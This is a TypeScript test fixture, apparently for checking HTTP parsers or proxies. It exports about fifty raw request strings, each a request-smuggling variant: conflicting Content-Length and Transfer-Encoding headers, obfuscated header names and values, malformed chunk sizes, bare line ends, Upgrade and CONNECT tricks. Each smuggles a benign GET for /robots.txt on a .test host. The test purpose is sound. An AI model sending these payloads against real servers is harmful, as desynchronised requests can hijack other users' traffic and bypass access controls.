/**
 * Requests that two servers may cut in different places, and so take a part of one person's request for the next
 * person's (request smuggling). Each carries a request for /robots.txt that is hidden, or sent in advance.
 * The shapes are those of https://portswigger.net/web-security/request-smuggling and RFC 9112, 11.2.
 */
const hidden = 'GET /robots.txt HTTP/1.1\r\nHost: portal.test\r\n\r\n';
const chunked = `0\r\n\r\n${hidden}`;
const call = 'POST /api/Student/subjects HTTP/1.1\r\nHost: portal.test\r\nContent-Type: application/json\r\n';
const page = 'GET /readyz HTTP/1.1\r\nHost: portal.test\r\n';

const asChunked = (header: string) => `${call}Content-Length: ${chunked.length}\r\n${header}\r\n\r\n${chunked}`;
const withLengths = (headers: string) => `${call}${headers}\r\n\r\n{}${hidden}`;
const withChunks = (body: string) => `${call}Transfer-Encoding: chunked\r\n\r\n${body}`;

export const framings: Record<string, string> = {
  'two lengths of a body: chunked and 4': `${call}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n2a\r\n${hidden.slice(0, 42)}\r\n0\r\n\r\n`,
  'chunked beside the whole length': asChunked('Transfer-Encoding: chunked'),
  'a space before the colon': asChunked('Transfer-Encoding : chunked'),
  'a tab before the word': asChunked('Transfer-Encoding:\tchunked'),
  'a vertical tab before the word': asChunked('Transfer-Encoding: \x0bchunked'),
  'a zero byte after the word': asChunked('Transfer-Encoding: chunked\x00'),
  'an unknown word': asChunked('Transfer-Encoding: xchunked'),
  'the word in quotes': asChunked('Transfer-Encoding: "chunked"'),
  'the word in capitals': asChunked('TRANSFER-ENCODING: CHUNKED'),
  'two encodings in one header': asChunked('Transfer-Encoding: chunked, identity'),
  'two encodings, the last is chunked': asChunked('Transfer-Encoding: gzip, chunked'),
  'two headers of an encoding': asChunked('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
  'a folded header': asChunked('Transfer-Encoding:\r\n chunked'),
  'a header that continues another': asChunked('X-Other: 1\r\n Transfer-Encoding: chunked'),
  'a header after a bare line feed': asChunked('X-Other: 1\nTransfer-Encoding: chunked'),
  'a header after a bare carriage return': asChunked('X-Other: 1\rTransfer-Encoding: chunked'),
  'an underscore in the name': asChunked('Transfer_Encoding: chunked'),
  'the encoding is said to be of this hop': asChunked('Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding'),
  'two lengths': withLengths(`Content-Length: 2\r\nContent-Length: ${2 + hidden.length}`),
  'two lengths, the larger one first': withLengths(`Content-Length: ${2 + hidden.length}\r\nContent-Length: 2`),
  'two lengths in one header': withLengths(`Content-Length: 2, ${2 + hidden.length}`),
  'a length with a plus sign': withLengths('Content-Length: +2'),
  'a length of hexadecimal digits': withLengths('Content-Length: 0x2'),
  'a length below zero': withLengths('Content-Length: -2'),
  'a length of more than 64 bits': withLengths('Content-Length: 18446744073709551618'),
  'a length with a zero byte': withLengths('Content-Length: 2\x00'),
  'an underscore in the name of the length': withLengths('Content_Length: 2'),
  'the length is said to be of this hop': withLengths('Content-Length: 2\r\nConnection: Content-Length'),
  'no length': withLengths('X-Other: 1'),
  'a chunk of hexadecimal size with 0x': withChunks(`0x2\r\n{}\r\n${chunked}`),
  'a chunk of a size below zero': withChunks(`-2\r\n{}\r\n${chunked}`),
  'a chunk of more than 64 bits': withChunks(`10000000000000002\r\n{}\r\n${chunked}`),
  'a space after the size of a chunk': withChunks(`2 \r\n{}\r\n${chunked}`),
  'a bare line feed after the size of a chunk': withChunks(`2\n{}\r\n${chunked}`),
  'a bare line feed in what a chunk is called': withChunks(`2;a\nb\r\n{}\r\n${chunked}`),
  'a bare carriage return in what a chunk is called': withChunks(`2;a\rb\r\n{}\r\n${chunked}`),
  'no line end after a chunk': withChunks(`2\r\n{}XX${chunked}`),
  'a bare line feed after a chunk': withChunks(`2\r\n{}\n${chunked}`),
  'a length among the trailers': withChunks(`2\r\n{}\r\n0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`),
  'trailers without an end': withChunks(`2\r\n{}\r\n0\r\nX-Other: ${hidden}`),
  'a GET with a body': `${page}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'a HEAD with a body': `HEAD /readyz HTTP/1.1\r\nHost: portal.test\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'a body that waits for 100': `${call}Expect: 100-continue\r\nContent-Length: 2\r\n\r\n${hidden}`,
  'a GET that waits for 100': `${page}Expect: 100-continue\r\nContent-Length: 2\r\n\r\n${hidden}`,
  'HTTP/2 by Upgrade': `${page}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
  'a WebSocket by Upgrade': `${page}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: bm9uY2Vub25jZW5vbmNlbg==\r\n\r\n${hidden}`,
  'a tunnel': `CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: portal.test\r\n\r\n${hidden}`,
  'a whole address in the first line': `GET http://other.test/readyz HTTP/1.1\r\nHost: portal.test\r\n\r\n${hidden}`,
  'two hosts': `${page}Host: other.test\r\n\r\n${hidden}`,
  'a line feed in the path': `GET /readyz\nX: HTTP/1.1\r\nHost: portal.test\r\n\r\n${hidden}`,
  'an encoded line end in the path': `GET /%0d%0aX:%20y HTTP/1.1\r\nHost: portal.test\r\n\r\n${hidden}`,
  'HTTP/1.0 that stays open': `GET /readyz HTTP/1.0\r\nHost: portal.test\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
  'HTTP/0.9': `GET /readyz\r\n${hidden}`,
};
